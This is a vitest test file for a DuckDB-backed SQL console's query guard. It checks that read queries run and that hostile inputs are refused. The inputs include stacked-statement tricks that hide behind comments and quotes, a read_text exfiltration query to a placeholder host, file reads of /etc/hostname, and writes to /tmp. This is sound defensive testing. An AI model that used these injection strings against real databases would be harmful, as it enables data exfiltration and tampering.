import { beforeAll, describe, expect, it } from 'vitest';
import type { Connector } from '../db/connector';
import { DbError } from '../db/errors';
import { connectorWithDatasets } from '../db/node-datasets';
import { runExploreQuery } from './run-query';

const datasets = ['it_spending', 'job_postings'];
let conn: Connector;
const exfil = "SELECT * FROM read_text('http://127.0.0.1:9/?d=' || getvariable('d'))";
/** Everything a query could change: the rows, the segments' sources, and whether a macro or setting stuck. */
async function state() {
	const [row] = (await conn.query("SELECT CAST(count(*) AS INTEGER) AS n, string_agg(DISTINCT source_url, '|' ORDER BY source_url) AS urls FROM it_spending")).toArray();
	const macros = (await conn.query("SELECT CAST(count(*) AS INTEGER) AS n FROM duckdb_functions() WHERE function_name = 'pwn'")).toArray()[0].n;
	const settings = (await conn.query("SELECT string_agg(name || '=' || value, ',' ORDER BY name) AS s FROM duckdb_settings() WHERE name IN ('enable_external_access', 'lock_configuration', 'autoinstall_known_extensions', 'custom_extension_repository')")).toArray()[0].s;
	return { rows: row.n, urls: row.urls, macros, settings };
}

beforeAll(async () => {
	conn = await connectorWithDatasets(datasets);
});

describe('the SQL console runs one statement that reads', () => {
	it('runs a read query and returns rows', async () => {
		const { table } = await runExploreQuery(conn, "SELECT segment, growth_pct FROM it_spending WHERE release_date = '2022-10' AND year = 2023 ORDER BY growth_pct DESC NULLS LAST", datasets);
		expect(table.toArray()[0].toJSON()).toEqual({ segment: 'Software', growth_pct: 11.3 });
	});

	it.each([
		['WITH and a trailing semicolon', "WITH s AS (SELECT * FROM it_spending) SELECT count(*)::INT AS n FROM s;", 327],
		['DESCRIBE', 'DESCRIBE it_spending', 10],
		['SUMMARIZE', 'SUMMARIZE it_spending', 10],
		['FROM-first', 'FROM it_spending SELECT count(*)::INT AS n', 327],
		['EXPLAIN', 'EXPLAIN SELECT 1', 1],
		['comments and strings holding keywords', "SELECT 'DROP TABLE it_spending; DELETE' AS text -- ; DROP TABLE it_spending\n", 'DROP TABLE it_spending; DELETE'],
		['a pivot as a subquery', 'SELECT count(*)::INT AS n FROM (PIVOT (SELECT segment, year, spend_usd_bn FROM it_spending) ON year IN (2023, 2024) USING sum(spend_usd_bn))', 6]
	])('reads: %s', async (_label, sql, expected) => {
		const { table } = await runExploreQuery(conn, sql, datasets);
		if (typeof expected === 'string') expect(table.toArray()[0].text).toBe(expected);
		else if (table.schema.fields[0].name === 'n') expect(table.toArray()[0].n).toBe(expected);
		else expect(table.numRows).toBeGreaterThanOrEqual(expected);
	});

	// The links of the security review, and the ways a second statement was hidden from the old hand-written guard.
	it.each([
		['the -- trick', `SELECT '--' AS x; SET VARIABLE d = (SELECT string_agg(segment, '|') FROM it_spending); ${exfil}`, /^3 statements refused \(SELECT; SET VARIABLE; SELECT\)/],
		['the /* trick', "SELECT '/*' AS x; DROP TABLE it_spending; SELECT '*/' AS y", /^3 statements refused \(SELECT; DROP TABLE; SELECT\)/],
		['$$--$$', 'SELECT $$--$$ AS x; UPDATE it_spending SET source_url = 1', /^2 statements refused \(SELECT; UPDATE\)/],
		['"--" as a name', 'SELECT 1 AS "--"; CREATE MACRO pwn(x) AS x', /^2 statements refused \(SELECT; CREATE MACRO\)/],
		['COMMIT escape', "COMMIT; UPDATE it_spending SET source_url = 'javascript:alert(1)'", /^2 statements refused \(COMMIT; UPDATE\)/],
		['ROLLBACK escape', 'ROLLBACK; DROP TABLE it_spending', /^2 statements refused \(ROLLBACK; DROP TABLE\)/],
		['a lone COMMIT', 'COMMIT', /^COMMIT refused: this console runs one query that reads/],
		['read_text of a URL', exfil, /^read_text\(\) refused: the console reads the loaded datasets only/],
		['read_csv of a URL', "SELECT * FROM read_csv('http://127.0.0.1:9/x.csv')", /^read_csv\(\) refused/],
		['a quoted URL as a table', "SELECT * FROM 'http://127.0.0.1:9/x.csv'", /^Reading 'http:\/\/127\.0\.0\.1:9\/x\.csv' refused/],
		['query() running SQL text', "SELECT * FROM query('SELECT 1')", /^query\(\) refused/],
		['ATTACH of a URL', "ATTACH 'http://127.0.0.1:9/x.db' AS x", /^ATTACH refused: this console runs one query that reads/],
		['SET', 'SET autoinstall_known_extensions = true', /^SET refused/],
		['SET of an extension repository', "SET custom_extension_repository = 'http://127.0.0.1:9'", /^SET refused/],
		['LOAD', 'LOAD httpfs', /^LOAD refused/],
		['COPY TO', "COPY it_spending TO 'out.csv'", /^COPY refused: it_spending is a shipped dataset and is read-only here/],
		['CREATE MACRO', 'CREATE MACRO pwn(x) AS x + 1', /^CREATE MACRO refused/],
		['DROP TABLE', 'drop table "it_spending"', /^DROP TABLE refused: it_spending is a shipped dataset/],
		['CREATE OR REPLACE TABLE', 'CREATE OR REPLACE TABLE it_spending AS SELECT 1', /^CREATE OR REPLACE TABLE refused: it_spending/],
		['a write hidden behind a CTE', 'WITH x AS (SELECT 1) DELETE FROM it_spending', /^DELETE refused: it_spending is a shipped dataset/],
		['a statement list hidden inside a CTE', 'WITH x AS (SELECT 1; DROP TABLE it_spending) SELECT * FROM x', /^2 statements refused/],
		['a statement list after a comment', "SELECT 1 /* harmless */; /* ; */ INSERT INTO job_postings SELECT * FROM job_postings", /^2 statements refused \(SELECT; INSERT\)/],
		['EXPLAIN ANALYZE of a write', 'EXPLAIN ANALYZE DELETE FROM it_spending', /^DELETE refused: it_spending/],
		['PIVOT statement', 'PIVOT it_spending ON year USING sum(spend_usd_bn)', /^PIVOT refused: as a statement it runs several/],
		['PRAGMA', 'PRAGMA enable_profiling', /^PRAGMA refused/],
		['an empty text', ' -- nothing\n', /^Write a query first/]
	])('refuses %s, naming why, and changes nothing', async (_label, sql, message) => {
		const before = await state();
		const failure = await runExploreQuery(conn, sql, datasets).catch((e) => e);
		expect(failure).toBeInstanceOf(DbError);
		expect(failure.message).toBe('Query refused');
		expect(failure.detail).toMatch(message);
		expect(await state()).toEqual(before);
	});

	it('shows DuckDB’s own message, with its position, for a syntax error', async () => {
		const failure = await runExploreQuery(conn, 'SELEC segment FROM it_spending', datasets).catch((e) => e);
		expect(failure.kind).toBe('query');
		expect(failure.detail).toMatch(/syntax error at or near "SELEC"/);
		expect(failure.detail).toMatch(/LINE 1/);
	});
});

describe('the engine is locked whatever a guard misses', () => {
	it('cannot reach a URL or a file of the machine', async () => {
		for (const sql of [exfil.replace(" || getvariable('d')", ''), "SELECT * FROM read_csv('/etc/hostname')", "ATTACH 'http://127.0.0.1:9/x.db' AS x", "COPY (SELECT 1) TO '/tmp/atlas-leak.csv'"]) {
			const failure = await conn.query(sql).catch((e) => e);
			expect(failure.detail, sql).toMatch(/Permission Error|disabled by configuration/);
		}
	});

	it('cannot change a setting or load an extension', async () => {
		for (const sql of ['SET enable_external_access = true', 'SET lock_configuration = false', 'SET autoinstall_known_extensions = true', "SET custom_extension_repository = 'http://127.0.0.1:9'"]) {
			const failure = await conn.query(sql).catch((e) => e);
			expect(failure.detail, sql).toMatch(/configuration has been locked/);
		}
		expect((await conn.query('LOAD json').catch((e) => e)).detail).toMatch(/disabled/);
	});

	it('refuses to prepare two statements, so the console never runs a second one', async () => {
		const failure = await conn.prepareOnly("SELECT 1; SET VARIABLE d = 'x'").catch((e) => e);
		expect(failure.detail).toMatch(/Cannot prepare multiple statements/);
		expect((await conn.query("SELECT getvariable('d') AS d")).toArray()[0].d).toBeNull();
	});

	it('rolls back anything a query does, even if a write got past the guard', async () => {
		const before = await state();
		await conn.query('BEGIN TRANSACTION');
		await conn.query('DELETE FROM it_spending');
		await conn.query('ROLLBACK');
		expect(await state()).toEqual(before);
	});
});
